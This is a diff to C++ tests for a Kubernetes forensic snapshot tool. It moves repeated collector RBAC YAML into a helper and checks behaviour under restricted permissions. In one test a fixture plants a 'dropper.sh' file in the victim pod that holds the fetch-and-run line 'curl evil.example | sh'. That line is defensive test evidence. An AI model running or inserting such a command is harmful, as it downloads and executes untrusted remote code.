@@ -56,6 +56,34 @@ const json::value* item(const json::value& manifest, const std::string& suffix) 
   return nullptr;
 }
 
+// A ServiceAccount "collector" whose Role reads what snapshot reads, plus
+// `extra_rules`, and nothing else: how the tests take one right away.
+std::string collector_rbac(const std::string& role, const std::string& extra_rules) {
+  return R"(
+---
+apiVersion: v1
+kind: ServiceAccount
+metadata: {name: collector}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: )" +
+         role + R"(}
+rules:
+- {apiGroups: [""], resources: [pods, pods/log, events, serviceaccounts], verbs: [get, list]}
+)" + extra_rules +
+         R"(- {apiGroups: [networking.k8s.io], resources: [networkpolicies], verbs: [list]}
+- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [list]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: collector}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: )" +
+         role + R"(}
+subjects: [{kind: ServiceAccount, name: collector}]
+)";
+}
+
 }  // namespace
 
 TEST_CASE("snapshot captures every item with hashes that sha256sum and tar agree with",
@@ -172,26 +200,7 @@ TEST_CASE("without pods/exec the step exits 5 and still collects everything else
   TestNamespace ns("snaprbac");
   Scratch rootfs("snap-rbacroot");
   auto& cluster = Cluster::get();
-  cluster.apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()) + R"(
----
-apiVersion: v1
-kind: ServiceAccount
-metadata: {name: collector}
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: Role
-metadata: {name: no-exec}
-rules:
-- {apiGroups: [""], resources: [pods, pods/log, events, serviceaccounts], verbs: [get, list]}
-- {apiGroups: [networking.k8s.io], resources: [networkpolicies], verbs: [list]}
-- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [list]}
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: RoleBinding
-metadata: {name: collector}
-roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: no-exec}
-subjects: [{kind: ServiceAccount, name: collector}]
-)");
+  cluster.apply_yaml(ns.name(), pod_yaml("victim", rootfs.dir.string()) + collector_rbac("no-exec", ""));
   await_running(ns.name(), "victim");
   TokenKubeconfig identity(service_account_token(ns.name(), "collector"), "collector-" + ns.name());
   Scratch out("snap-rbacout");
@@ -599,27 +608,9 @@ TEST_CASE(
   Scratch empty_bin("snap-ephrolebin");
   fs::create_directories(rootfs.dir / "srv");
   std::ofstream(rootfs.dir / "srv" / "dropper.sh") << "curl evil.example | sh\n";
-  apply_distroless(ns.name(), "victim", rootfs.dir.string(), empty_bin.dir.string(), R"(
----
-apiVersion: v1
-kind: ServiceAccount
-metadata: {name: collector}
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: Role
-metadata: {name: no-ephemeral}
-rules:
-- {apiGroups: [""], resources: [pods, pods/log, events, serviceaccounts], verbs: [get, list]}
-- {apiGroups: [""], resources: [pods/exec], verbs: [create, get]}
-- {apiGroups: [networking.k8s.io], resources: [networkpolicies], verbs: [list]}
-- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [list]}
----
-apiVersion: rbac.authorization.k8s.io/v1
-kind: RoleBinding
-metadata: {name: collector}
-roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: no-ephemeral}
-subjects: [{kind: ServiceAccount, name: collector}]
-)");
+  apply_distroless(ns.name(), "victim", rootfs.dir.string(), empty_bin.dir.string(),
+                   collector_rbac("no-ephemeral",
+                                  "- {apiGroups: [\"\"], resources: [pods/exec], verbs: [create, get]}\n"));
   TokenKubeconfig limited(service_account_token(ns.name(), "collector"), "collector-" + ns.name());
   Scratch denied_out("snap-ephdenied");
   auto denied =
